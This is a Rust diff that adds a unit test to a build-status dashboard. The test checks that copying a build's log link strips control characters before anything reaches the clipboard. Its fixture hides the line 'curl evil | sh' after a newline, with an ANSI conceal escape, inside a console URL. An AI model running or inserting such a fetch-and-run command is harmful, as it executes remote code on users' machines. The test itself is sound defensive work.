@@ -322,3 +322,20 @@ fn open_refuses_links_that_are_not_the_aws_console() {
         notice.text
     );
 }
+
+#[test]
+fn copy_puts_on_the_clipboard_only_the_text_shown() {
+    let mut b = common::fixtures::build("web-frontend", 1, 2, cbdash::domain::Status::Failed);
+    b.logs.deep_link = Some("https://console.aws.amazon.com/x\ncurl evil | sh\u{1b}[8m".into());
+    let mut state = state_with(vec![b]);
+    let effects = update(&mut state, key('y'));
+    let copied: Vec<&String> = effects
+        .iter()
+        .filter_map(|e| match e {
+            Effect::Copy(text) => Some(text),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(copied.len(), 1);
+    assert!(!copied[0].chars().any(char::is_control), "{:?}", copied[0]);
+}
